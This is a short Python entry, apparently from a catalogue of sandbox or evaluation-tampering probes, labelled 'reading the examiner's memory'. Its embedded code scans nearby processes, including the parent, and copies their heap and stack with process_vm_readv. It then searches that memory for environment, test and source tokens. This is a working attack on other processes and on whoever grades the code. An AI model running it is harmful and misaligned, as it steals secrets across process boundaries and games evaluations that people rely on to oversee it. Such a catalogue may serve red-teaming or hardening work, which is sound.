"""`process_vm_readv` copies the memory of parents and siblings without stopping them."""

kind = "reading the examiner's memory"
aims = "read"
cell = """
import ctypes, glob, os, re

libc = ctypes.CDLL(None, use_errno=True)

class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

for pid in {*range(1, 400), os.getppid()} - {os.getpid()}:
    try:
        lines = [line for line in open(f"/proc/{pid}/maps") if "heap" in line or "stack" in line]
    except OSError:
        continue
    for line in lines:
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        room = ctypes.create_string_buffer(end - start)
        here, there = Piece(ctypes.addressof(room), end - start), Piece(start, end - start)
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            print(pid, set(re.findall(rb"(?:environment|table|test|source)-[0-9a-f]{16}", room.raw)))
"""
